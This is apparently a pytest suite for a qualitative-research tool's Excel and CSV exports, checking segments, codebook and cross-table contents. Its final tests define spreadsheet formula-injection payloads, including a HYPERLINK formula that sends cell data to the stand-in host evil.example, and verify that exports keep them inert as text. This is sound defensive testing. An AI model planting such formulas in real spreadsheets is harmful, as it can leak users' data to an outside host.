"""Excel and CSV tables opened with openpyxl / csv and checked cell by cell."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from fieldkit.core.errors import BadInput
from fieldkit.project import Project


def _rows(sheet: openpyxl.worksheet.worksheet.Worksheet) -> list[dict[str, object]]:
    values = list(sheet.iter_rows(values_only=True))
    header = values[0]
    return [dict(zip(header, row, strict=True)) for row in values[1:]]


def test_workbook_sheets_and_content(project: Project, tmp_path: Path) -> None:
    out = project.exports.xlsx(tmp_path / "tables.xlsx")
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Segments", "Codebook", "Codes x documents",
                               "Codes x attributes", "Co-occurrence", "ESM answers"]
    assert all(sheet.freeze_panes in ("A2", "B2") for sheet in book)
    segments = _rows(book["Segments"])
    assert len(segments) == 8
    spoken = next(r for r in segments if r["Quote"] == "Gewoon door mee te kijken bij Jan")
    assert spoken["Code"] == "Learning/Peer help"
    assert (spoken["Speaker"], spoken["Timestamp"], spoken["Participant"], spoken["Role"]) == \
        ("Ahmed", "00:00:04", "P01", "operator")
    assert spoken["Participant: department"] == "Zetterij"
    assert (spoken["Site"], spoken["Visit date"], spoken["Coder"]) == \
        ("Metaal Oost", "2024-03-05", "Anna")
    photo = next(r for r in segments if r["Kind"] == "photo")
    assert photo["Region"] == "0,0,30,40" and photo["Memo"] == "Red half"
    header = [cell.value for cell in book["Segments"][1]]
    quote_column = book["Segments"].cell(row=1, column=header.index("Quote") + 1).column_letter
    assert book["Segments"].column_dimensions[quote_column].width >= 20
    # citations people can use: paragraph, timestamp, beep time — not only character offsets
    assert (spoken["Paragraph"], spoken["Citation"]) == (2, "¶ 2 · 00:00:04")
    beeped = next(r for r in segments if r["Kind"] == "esm")
    assert (beeped["Paragraph"], beeped["Beep"], beeped["Citation"]) == \
        (2, "10:15", "¶ 2 · beep 10:15")

    codebook = _rows(book["Codebook"])
    assert [r["Code"] for r in codebook] == ["Learning", "Learning/Peer help",
                                             "Technology adoption", "Autonomy"]
    assert codebook[0]["Segments"] == 1 and codebook[0]["Segments with sub-codes"] == 5

    by_doc = _rows(book["Codes x documents"])
    interview = next(r for r in by_doc if r["Document"] == "Interview Ahmed")
    assert interview["Learning/Peer help"] == 1 and interview["Technology adoption"] == 1
    assert interview["Autonomy"] == 0

    by_attr = {r["Code"]: r for r in _rows(book["Codes x attributes"])}
    assert by_attr["Learning/Peer help"]["Role: operator"] == 2
    assert by_attr["Learning/Peer help"]["Case: Zetterij"] == 2
    assert by_attr["Learning"]["Site: Metaal Oost"] == 1

    co = {r["Code"]: r for r in _rows(book["Co-occurrence"])}
    assert co["Learning"]["Learning/Peer help"] == 1 == co["Learning/Peer help"]["Learning"]
    assert co["Learning"]["Technology adoption"] == 0  # the emoji lies outside the sentence

    esm = _rows(book["ESM answers"])
    assert esm == [{"Document id": 4, "Document": "ESM P01 2024-03-06", "Participant": "P01",
                    "Beep": "1", "Time": "2024-03-06T10:15:00", "UTC": "2024-03-06T09:15:00Z",
                    "help: Wie hielp?": "Jan, Piet", "mood: Hoe voel je je?": 4}]


def test_same_project_gives_identical_workbook(project: Project, tmp_path: Path) -> None:
    a = project.exports.xlsx(tmp_path / "a.xlsx").read_bytes()
    b = project.exports.xlsx(tmp_path / "b.xlsx").read_bytes()
    assert a == b


def test_csv_files(project: Project, tmp_path: Path) -> None:
    written = project.exports.csv(tmp_path / "csv")
    assert sorted(p.name for p in written) == sorted(
        ["segments.csv", "codebook.csv", "code_by_document.csv", "code_by_attribute.csv",
         "cooccurrence.csv", "esm_answers.csv"])
    raw = (tmp_path / "csv" / "segments.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with open(tmp_path / "csv" / "segments.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert {r["Quote"] for r in rows} >= {"🙂", "de kantbank"}
    again = project.exports.csv(tmp_path / "csv2")
    assert [p.read_bytes() for p in written] == [p.read_bytes() for p in again]


def test_bad_targets_are_refused(project: Project, tmp_path: Path) -> None:
    with pytest.raises(BadInput, match="must end in .xlsx"):
        project.exports.xlsx(tmp_path / "a.csv")
    (tmp_path / "file").write_text("x")
    with pytest.raises(BadInput, match="is a file"):
        project.exports.csv(tmp_path / "file")
    with pytest.raises(BadInput, match="does not exist"):
        project.exports.csv(tmp_path / "no" / "such" / "dir")


HOSTILE = {"site": '=HYPERLINK("http://evil.example/?"&A1,"klik")', "title": "+SUM(1,2)",
           "code": "@Technologie", "quote": "=1+2 is de maat", "memo": "-2+3 of zo",
           "coder": "=Eva"}


def _hostile(tmp_path: Path) -> Project:
    project = Project.create(tmp_path / "Hostile.fieldkit")
    project.set_coder(HOSTILE["coder"], remember=False)
    text = HOSTILE["quote"] + ", zegt Jan\x0b bij de pers."
    project.add_note(site=HOSTILE["site"], title=HOSTILE["title"], text=text)
    project.add_code(HOSTILE["code"])
    coding = project.code_text(1, 0, len(HOSTILE["quote"]), HOSTILE["code"])
    project.memos.set_coding_memo(coding.id, HOSTILE["memo"])
    project.code_text(1, 0, len(text), HOSTILE["code"])  # the whole text, with \x0b in it
    return project


def test_xlsx_cells_that_look_like_formulas_stay_text(tmp_path: Path) -> None:
    with _hostile(tmp_path) as project:
        out = project.exports.xlsx(tmp_path / "t.xlsx")
    book = openpyxl.load_workbook(out)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    segments = _rows(book["Segments"])
    first = next(r for r in segments if r["Memo"] == HOSTILE["memo"])
    assert first["Quote"] == HOSTILE["quote"]  # the very quote, not a formula or "'=..."
    assert (first["Site"], first["Document"], first["Code"], first["Coder"]) == (
        HOSTILE["site"], HOSTILE["title"], HOSTILE["code"], HOSTILE["coder"])
    whole = next(r for r in segments if not r["Memo"])
    assert whole["Quote"] == HOSTILE["quote"] + ", zegt Jan\ufffd bij de pers."
    header = next(book["Codes x documents"].iter_rows(values_only=True))
    assert HOSTILE["code"] in header


def test_csv_cells_that_look_like_formulas_are_escaped(tmp_path: Path) -> None:
    with _hostile(tmp_path) as project:
        project.exports.csv(tmp_path / "csv")
    for path in (tmp_path / "csv").glob("*.csv"):
        with open(path, encoding="utf-8-sig", newline="") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], path.name
    with open(tmp_path / "csv" / "segments.csv", encoding="utf-8-sig", newline="") as f:
        row = next(r for r in csv.DictReader(f) if r["Memo"] == "'" + HOSTILE["memo"])
    assert row["Quote"] == "'" + HOSTILE["quote"]
    assert (row["Site"], row["Document"], row["Code"]) == (
        "'" + HOSTILE["site"], "'" + HOSTILE["title"], "'" + HOSTILE["code"])
    with open(tmp_path / "csv" / "code_by_document.csv", encoding="utf-8-sig") as f:
        assert "'" + HOSTILE["code"] in next(csv.reader(f))


def test_team_workbooks_write_text_as_text(tmp_path: Path) -> None:
    with _hostile(tmp_path) as project:
        out = project.agreement.export_blind_xlsx(HOSTILE["coder"], tmp_path / "blind.xlsx")
    book = openpyxl.load_workbook(out)
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert {HOSTILE["quote"], HOSTILE["code"], HOSTILE["title"], HOSTILE["memo"]} <= values
